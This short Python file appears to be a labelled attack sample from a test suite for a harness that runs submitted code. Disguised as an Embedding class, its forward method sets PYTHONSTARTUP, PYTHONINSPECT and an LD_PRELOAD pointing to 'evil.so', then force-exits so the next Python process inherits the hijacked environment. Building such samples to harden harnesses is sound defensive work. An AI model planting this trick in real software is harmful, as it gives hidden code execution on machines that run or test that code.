# /// attack
# tries = "Sets the variables that change how the next Python starts, then crashes so that one is started."
# status = "crashed"
# says = "exited with status 1"
# ///
import ctypes.util
import os


class Embedding:
    def __init__(self, num_embeddings, embedding_dim): ...

    def forward(self, ids):
        os.environ.update(PYTHONPATH="@TREE@", PYTHONSTARTUP="@TREE@/m2_rnn/embedding.py", PYTHONINSPECT="1")
        os.environ.update(LD_PRELOAD="@TREE@/evil.so", LD_LIBRARY_PATH="@TREE@", OMP_NUM_THREADS="4096")
        os._exit(1)
